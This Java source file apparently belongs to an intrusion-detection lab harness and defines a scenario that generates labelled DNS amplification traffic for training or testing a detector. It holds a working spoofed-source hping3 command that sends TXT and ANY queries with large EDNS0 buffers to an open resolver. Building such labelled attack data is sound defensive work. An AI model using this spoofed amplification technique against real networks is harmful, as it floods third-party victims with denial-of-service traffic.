package gatewatch.sensor.lab.scenario.attack;

import gatewatch.features.truth.FlowPattern;
import gatewatch.features.truth.Proto;
import gatewatch.features.truth.TruthCategory;
import gatewatch.sensor.lab.scenario.LabRun;
import gatewatch.sensor.lab.scenario.Scenario;
import gatewatch.sensor.lab.scenario.Tool;
import gatewatch.sensor.lab.service.OpenResolver;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;

/**
 * DNS amplification: hping3 sends small DNS queries (about 40 bytes, EDNS0 for 4096-byte
 * answers) with a victim's forged source address to an open resolver (dnsmasq on the server)
 * for a name with about 3 KB of TXT records, and for ANY of it; each answer, fragmented, goes to
 * the victim, a live client-side host ({@code clientAlias(32)}) whose kernel answers some with
 * ICMP port unreachable (rate-limited). All of it, the victim's ICMP errors included, is
 * dos/{@value #LABEL}.
 */
public final class DosDnsAmplification implements Scenario {
    public static final String LABEL = "dns_amplification";
    /** Queries per query type. */
    public static final int PACKETS = 300;
    public static final int INTERVAL_MICROS = 2000;
    static final int VICTIM_ALIAS = 32;

    @Override
    public String name() {
        return "dos-dns-amplification";
    }

    @Override
    public String summary() {
        return "dos/" + LABEL + ": hping3 DNS TXT/ANY queries forged from a client-side victim to an open dnsmasq resolver";
    }

    @Override
    public List<Tool> tools() {
        return List.of(OpenResolver.DNSMASQ, AttackTools.HPING3);
    }

    @Override
    public void run(LabRun lab) throws Exception {
        OpenResolver.start(lab);
        String server = lab.net().server();
        String victim = lab.net().clientAlias(VICTIM_ALIAS);
        lab.label(FlowPattern.of(Proto.UDP, victim, server).toPort(53), TruthCategory.DOS, LABEL);
        lab.label(FlowPattern.of(Proto.ICMP, victim, server).eitherDirection(), TruthCategory.DOS, LABEL);
        int id = lab.random().nextInt(1 << 16);
        for (int qtype : new int[] {DnsQuery.TYPE_TXT, DnsQuery.TYPE_ANY}) {
            byte[] query = DnsQuery.of(id, OpenResolver.BIG_NAME, qtype, 4096);
            Path file = lab.writeFile("query-" + qtype + ".bin", query);
            lab.pause(Duration.ofMillis(300), Duration.ofMillis(1000));
            // hping3 repeats the file's bytes as the payload; -d is their length. Source ports change per query.
            Hping.Stats s = Hping.run(lab, "queries-type" + qtype, Duration.ofSeconds(60), List.of("-q", "--udp",
                    "-a", victim, "-p", "53", "-E", file.toString(), "-d", Integer.toString(query.length),
                    "-c", Integer.toString(PACKETS), "-i", "u" + INTERVAL_MICROS, server));
            lab.report("queries_type" + qtype + "_sent", s.transmitted());
        }
        lab.pause(Duration.ofSeconds(1), Duration.ofSeconds(1));
    }
}
